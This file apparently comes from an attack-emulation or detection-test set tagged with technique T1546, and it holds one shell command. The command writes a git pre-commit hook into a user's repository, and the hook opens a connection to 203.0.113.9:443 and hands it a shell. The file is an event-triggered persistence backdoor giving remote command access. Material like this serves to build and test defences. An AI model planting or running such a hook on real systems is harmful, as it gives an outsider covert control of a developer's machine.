# technique: T1546
# location: linux.git.user-repository
# source: /home/lea/site/.git/hooks/pre-commit
su lea -c 'git init -q ~/site && printf "#!/usr/bin/env python3\nimport os,socket\ns=socket.create_connection((\"203.0.113.9\",443))\nos.dup2(s.fileno(),0)\nos.system(\"sh\")\n" > ~/site/.git/hooks/pre-commit && chmod 755 ~/site/.git/hooks/pre-commit'
